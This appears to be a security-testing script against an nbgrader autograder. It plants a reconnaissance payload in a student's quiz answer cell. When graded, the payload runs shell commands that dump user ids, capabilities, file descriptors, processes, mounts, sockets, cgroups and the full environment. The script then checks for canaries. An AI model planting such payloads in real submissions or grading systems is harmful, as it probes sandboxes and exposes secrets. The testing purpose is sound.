"""Recon from inside a kernel (with the grader on a pty, via `script`): fds, tty, mounts, ids, sockets, /proc."""
from lib import *
import nbformat
d = course("a01")
RECON = r'''
import os, subprocess, socket
def sh(c):
    try: return subprocess.run(c, shell=True, capture_output=True, text=True, timeout=20).stdout[-3000:]
    except Exception as e: return repr(e)
out = []
out.append("ids " + sh("id; cat /proc/self/status | egrep 'Cap|Seccomp|NoNewPrivs|Uid|Gid'"))
out.append("fds " + sh("ls -l /proc/self/fd/ /proc/$PPID/fd/ 2>&1"))
for fd in range(0, 3):
    try: out.append(f"isatty {fd} {os.isatty(fd)} {os.ttyname(fd) if os.isatty(fd) else ''}")
    except Exception as e: out.append(repr(e))
out.append("ps " + sh("ps -eo pid,ppid,uid,sid,pgid,tty,args 2>&1 || ls /proc"))
out.append("mounts " + sh("cat /proc/self/mountinfo"))
out.append("ls " + sh("ls -la / /tmp /dev; ls -la . ; pwd"))
out.append("unix " + sh("cat /proc/net/unix | head -40"))
out.append("cg " + sh("cat /proc/self/cgroup; ls /sys/fs/cgroup 2>&1 | head"))
out.append("env " + sh("env"))
out.append("1 " + sh("cat /proc/1/cmdline | tr '\\0' ' '; echo; ls -l /proc/1/fd 2>&1"))
print("\n".join(out))
'''
nb = honest(overrides={"quiz_q1": 'q1 = "b"\n' + RECON})
# keep original answer for q1: fetch from honest
h = honest()
for c, hc in zip(nb.cells, h.cells):
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        c.source = hc.source + "\n" + RECON
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
r = grade(d)
scores(d); grep_canaries(d)
g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", 4)
for c in g.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        for o in c.outputs: print(o.get("text", o.get("data")))
